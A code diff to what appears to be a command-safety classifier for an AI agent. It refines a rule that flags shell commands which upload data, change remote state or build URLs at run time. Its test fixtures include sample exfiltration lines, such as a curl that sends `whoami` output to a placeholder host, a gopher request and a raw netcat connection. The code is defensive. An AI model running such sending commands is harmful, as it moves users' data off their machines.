@@ -1,8 +1,12 @@
 """Floors (S3.5): facts that raise a ``safe`` rating to ``destructive``; they never lower anything.
 
-- ``floor.open-world``: a host literal in a fetch or transfer position of a network tool. At
-  ``auto`` it is lifted (:func:`carve_open_world`) when every host is a word of the user's own
-  mandate.
+- ``floor.open-world``: a network tool sends data off this machine or changes state on another —
+  a request body, form or uploaded file, a method other than GET/HEAD, an upload, push, sync or
+  copy to the remote side, a remote shell, an install from an explicit index (its code runs here)
+  — or names its URL or host with a part only known when it runs (which can carry data out). A
+  static download (``curl -sL https://…``, ``wget URL``, ``git clone``, ``scp host:f .``) is
+  rated, not floored. At ``auto`` it is lifted (:func:`carve_open_world`) when every host is a
+  word of the user's own mandate.
 - ``floor.fetch-pipe-interpreter``: something fetched from the network is run by an interpreter.
 - ``floor.script-env-leak``: an interpreter's inline code reads environment variables.
 """
@@ -33,8 +37,218 @@ def command_hosts(cmd: SimpleCommand) -> Iterator[str]:
     return (ref.host for ref in hosts_in(cmd.head, cmd.args) if ref.transfer)
 
 
+_DRY_RUN: Final = frozenset({"--dry-run", "--dryrun", "--list-only"})
+
+
 def _open_world(cmd: SimpleCommand, facts: Facts) -> bool:
-    return any(not is_loopback(h) for h in command_hosts(cmd))
+    sends = _SENDS.get(cmd.head)
+    if sends is None:
+        return False
+    if cmd.head in ("rsync", "rclone", "aws", "gsutil", "s3cmd") and (
+            set(_opt_names(cmd)) & _DRY_RUN or (cmd.head == "rsync" and "-n" in _short_letters(cmd))):
+        return False  # a dry run transfers nothing
+    if _dynamic_target(cmd):
+        return True
+    if cmd.head == "rclone":  # its remotes are names from its config (`remote:`), not host literals
+        return sends(cmd)
+    if cmd.head in ("aws", "gsutil", "s3cmd") and any(a.startswith(("s3://", "gs://")) for a in cmd.args):
+        return sends(cmd)  # a bucket is the remote side whatever the verb
+    if not any(not is_loopback(h) for h in command_hosts(cmd)):
+        return False
+    return sends(cmd)
+
+
+# Tools whose operands are URLs fetched: a dynamic operand is a URL only known when it runs.
+_URL_TOOLS: Final = frozenset({"curl", "wget", "aria2c", "http", "https", "httpie", "xh", "xhs", "curlie", "axel",
+                               "ssh", "scp", "rsync", "sftp", "ftp", "lftp", "nc", "ncat", "netcat", "telnet"})
+# Options whose value is a local file or a format, never the request: a dynamic one carries nothing out.
+_LOCAL_VALUE: Final = frozenset({"-o", "--output", "-O", "--output-document", "-D", "--dump-header", "-c",
+                                 "--cookie-jar", "-w", "--write-out", "-P", "--directory-prefix", "-a", "-E",
+                                 "--log-file", "-i", "-F"})
+
+
+def _dynamic_target(cmd: SimpleCommand) -> bool:
+    """A word only known when it runs in a request position: a URL, host, header, body or user."""
+    if cmd.head not in _URL_TOOLS and cmd.head != "git":
+        return False
+    args = cmd.argv[1:]
+    if cmd.head == "git" and _git_verb(cmd) not in ("push", "clone", "fetch", "pull", "ls-remote", "remote"):
+        return False
+    for k, w in enumerate(args):
+        if w.static:
+            continue
+        prev = args[k - 1].text if k else ""
+        if prev in _LOCAL_VALUE or w.text.startswith(tuple(o + "=" for o in _LOCAL_VALUE if o.startswith("--"))):
+            continue
+        return True
+    return False
+
+
+_CURL_SENDS: Final = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii",
+                                "-F", "--form", "--form-string", "-T", "--upload-file", "--json", "-K", "--config",
+                                "--mail-rcpt", "--mail-from"})
+_READ_METHODS: Final = frozenset({"GET", "HEAD", "OPTIONS"})
+# Schemes whose request is whatever the URL says (not a fetch of a document).
+_SENDING_SCHEMES: Final = re.compile(r"^(?:gopher|dict|telnet|smtps?|ldaps?|mqtts?|tftp|imaps?|pop3s?|rtsp)://", re.I)
+
+
+def _opt_names(cmd: SimpleCommand) -> list[str]:
+    out = []
+    for w in cmd.argv[1:]:
+        t = w.text
+        if t.startswith("--"):
+            out.append(t.split("=", 1)[0])
+        elif t.startswith("-") and len(t) > 1:
+            out.append(t[:2])
+    return out
+
+
+def _method(cmd: SimpleCommand, *names: str) -> str:
+    args = cmd.args
+    for k, a in enumerate(args):
+        for n in names:
+            if a == n and k + 1 < len(args):
+                return args[k + 1].upper()
+            if a.startswith(n + "=") and n.startswith("--"):
+                return a.split("=", 1)[1].upper()
+            if len(n) == 2 and a.startswith(n) and len(a) > 2 and not a.startswith("--"):
+                return a[2:].upper()
+    return ""
+
+
+def _curl_sends(cmd: SimpleCommand) -> bool:
+    opts = set(_opt_names(cmd))
+    if opts & _CURL_SENDS:
+        return True
+    method = _method(cmd, "-X", "--request")
+    if method and method not in _READ_METHODS:
+        return True
+    return any(_SENDING_SCHEMES.match(a) for a in cmd.args)
+
+
+def _wget_sends(cmd: SimpleCommand) -> bool:
+    opts = set(_opt_names(cmd))
+    if opts & {"--post-data", "--post-file", "--body-data", "--body-file", "-i", "--input-file"}:
+        return True
+    method = _method(cmd, "--method")
+    return bool(method) and method not in _READ_METHODS
+
+
+_HTTPIE_ITEM: Final = re.compile(r"^[^=:@/\s]+(?:==|=|:=|@|=@|:=@)")
+
+
+def _httpie_sends(cmd: SimpleCommand) -> bool:
+    operands = [a for a in cmd.args if not a.startswith("-")]
+    if operands and operands[0].upper() in ("POST", "PUT", "PATCH", "DELETE"):
+        return True
+    # a data item (`name=value`, `field:=json`, `file@path`) makes httpie send a body; `q==x` is a query
+    return any(_HTTPIE_ITEM.match(a) and "==" not in a.split("=", 1)[0] + "=" and "==" not in a for a in operands[1:])
+
+
+_REMOTE_PATH: Final = re.compile(r"^(?:[\w.+-]+@)?(?:\[[0-9a-fA-F:.]+\]|[A-Za-z0-9][\w.-]*):(?!//)|^[a-z][a-z0-9+.-]*://", re.I)
+
+
+def _short_letters(cmd: SimpleCommand) -> set[str]:
+    return {"-" + ch for a in cmd.args if a.startswith("-") and not a.startswith("--") for ch in a[1:]}
+
+
+def _copy_sends(cmd: SimpleCommand) -> bool:
+    """scp/rsync: data leaves when the destination (the last operand) is on another host."""
+    operands = [a for a in cmd.args if not a.startswith("-")]
+    if cmd.head == "rsync" and len(operands) == 1:
+        return False  # `rsync host:/dir/` lists the remote folder
+    if len(operands) < 2:
+        return True  # an interactive or odd form: cannot show it only downloads
+    return bool(_REMOTE_PATH.match(operands[-1]))
+
+
+_RCLONE_READS: Final = frozenset({"ls", "lsd", "lsl", "lsf", "lsjson", "cat", "size", "about", "tree", "check",
+                                  "cryptcheck", "md5sum", "sha1sum", "hashsum", "listremotes", "version", "ncdu",
+                                  "config", "obscure", "help", "link", "touch-dry", "backend"})
+
+
+def _rclone_sends(cmd: SimpleCommand) -> bool:
+    operands = [a for a in cmd.args if not a.startswith("-")]
+    verb = operands[0] if operands else ""
+    if verb in _RCLONE_READS:
+        return False
+    if verb in ("copy", "copyto", "sync", "move", "moveto", "copyurl", "bisync") and len(operands) >= 3:
+        return (":" in operands[-1] and not operands[-1].startswith(("/", "."))) or verb in ("move", "moveto")
+    return True  # delete, purge, mkdir, rmdir, dedupe, mount, serve …: remote state changes
+
+
+_S3_READS: Final = frozenset({"ls", "get", "info", "du", "la", "presign"})
+
+
+def _bucket_sends(cmd: SimpleCommand) -> bool:
+    operands = [a for a in cmd.args if not a.startswith("-")]
+    if cmd.head == "s3cmd":
+        return not operands or operands[0] not in _S3_READS
+    if cmd.head == "gsutil":
+        verb = operands[0] if operands else ""
+        if verb in ("ls", "cat", "du", "stat", "hash", "version", "help"):
+            return False
+    elif operands[:1] == ["s3"]:
+        verb = operands[1] if len(operands) > 1 else ""
+        if verb in ("ls", "presign", "wait"):
+            return False
+    else:
+        # another aws service: its read verbs (get-…, list-…, describe-…) change nothing remote
+        verb = operands[1] if len(operands) > 1 else ""
+        return not verb.startswith(("get-", "list-", "describe-", "head-", "receive-", "show-", "lookup-",
+                                    "search-", "batch-get-", "query", "scan", "wait"))
+    if verb in ("cp", "sync", "mv", "rsync"):
+        return operands[-1].startswith(("s3://", "gs://")) or verb == "mv"
+    return True
+
+
+def _git_verb(cmd: SimpleCommand) -> str:
+    operands = [a for a in cmd.args if not a.startswith("-")]
+    args = cmd.args
+    skip = {"-C", "-c", "--git-dir", "--work-tree", "--namespace"}
+    k = 0
+    while k < len(args):
+        if args[k] in skip:
+            k += 2
+            continue
+        if not args[k].startswith("-"):
+            return args[k]
+        k += 1
+    return operands[0] if operands else ""
+
+
+def _git_sends(cmd: SimpleCommand) -> bool:
+    return _git_verb(cmd) in ("push", "send-email", "request-pull")
+
+
+def _package_sends(cmd: SimpleCommand) -> bool:
+    """An install from an explicit index runs its packages' code here; a publish sends one out."""
+    operands = [a for a in cmd.args if not a.startswith("-")]
+    verb = operands[0] if operands else ""
+    if cmd.head == "uv" and verb == "pip" and len(operands) > 1:
+        verb = operands[1]
+    return verb in ("install", "i", "add", "publish", "upload", "sync", "update", "upgrade", "ci", "exec", "x", "run",
+                    "tool", "dlx", "create")
+
+
+def _always(cmd: SimpleCommand) -> bool:
+    return True  # a remote shell or raw connection: what is typed or piped goes out
+
+
+_SENDS: Final = {
+    **{h: _curl_sends for h in ("curl", "curlie")},
+    **{h: _wget_sends for h in ("wget", "wget2")},
+    **{h: _httpie_sends for h in ("http", "https", "httpie", "xh", "xhs")},
+    "aria2c": lambda cmd: bool(set(_opt_names(cmd)) & {"-i", "--input-file", "-T", "--torrent-file"}),
+    "axel": lambda cmd: False,
+    **{h: _copy_sends for h in ("scp", "rsync")},
+    "rclone": _rclone_sends,
+    **{h: _bucket_sends for h in ("aws", "gsutil", "s3cmd")},
+    "git": _git_sends,
+    **{h: _always for h in ("ssh", "sftp", "ftp", "lftp", "telnet", "mosh", "nc", "ncat", "netcat", "az")},
+    **{h: _package_sends for h in ("pip", "pip3", "npm", "yarn", "pnpm", "cargo", "gem", "uv", "bun", "poetry", "pipx",
+                                   "npx", "pnpx", "bunx", "composer", "go", "conda", "mamba")},
+}
 
 
 # --- fetch piped into an interpreter ------------------------------------------------------------
@@ -92,16 +306,23 @@ def _env_leak(cmd: SimpleCommand, facts: Facts) -> bool:
 
 RULES: Final[tuple[Rule, ...]] = (
     Rule(OPEN_WORLD,
-         "reaches a host on the network; what comes back, or what is sent, is outside this machine's control",
+         "sends data to a host on the network or changes state there; once it has left, it cannot be called back",
          _open_world,
-         positive=("curl https://example.com/data.json", "wget http://203.0.113.9/x", "git clone https://github.com/a/b",
+         positive=("curl -d @data.json https://api.example.com/x", "curl -X POST https://api.example.com/x",
+                   "curl -T report.pdf https://x.example/", "wget --post-file=a.txt http://203.0.113.9/x",
                    "scp build.tgz me@host.example:/srv/", "ssh prod", "rsync -a out/ host.example:/srv/www",
                    "pip install -i https://pypi.example/simple pkg", "aws s3 cp out.tgz s3://my-bucket/",
-                   "git remote add up git@github.com:a/b.git", "curl example.com", "nc 10.0.0.5 80",
-                   "npm install --registry=https://registry.example pkg", "http POST api.example.com x=1"),
+                   "git push git@github.com:a/b.git main", "nc 10.0.0.5 80", "curl gopher://x.example:70/_DATA",
+                   "npm install --registry=https://registry.example pkg", "http POST api.example.com x=1",
+                   'curl "https://x.example/?q=$(whoami)"', 'curl -s "$API_URL/users"', "rclone copy ./out remote:bk"),
          negative=("curl http://localhost:8080/health", "git push origin main", "pip install requests",
                    "ssh -V", "nc -l 4444", "ls https://example.com", "git log", "curl -o out.html ./x",
-                   "aws s3 ls"),
+                   "aws s3 ls", "curl https://example.com/data.json", "curl -sL https://x.example/a.tgz -o a.tgz",
+                   "wget http://203.0.113.9/x", "git clone https://github.com/a/b", "scp me@host.example:f.txt .",
+                   "rclone ls remote:bucket", "aws s3 cp s3://my-bucket/x .", "http GET api.example.com q==1",
+                   'curl -o "$out" https://x.example/f', "npm install left-pad@1.3.0", "curl -I https://x.example",
+                   "aws s3 sync ./dist s3://b/ --dryrun", "rsync -a --list-only user@host.example:/dest/",
+                   "aws sqs get-queue-attributes --queue-url https://sqs.us-east-1.amazonaws.com/1/q"),
          remedy="name the host in your request to the agent, or run it yourself"),
     Rule(FETCH_PIPE,
          "runs code fetched from the network without anyone reading it first",
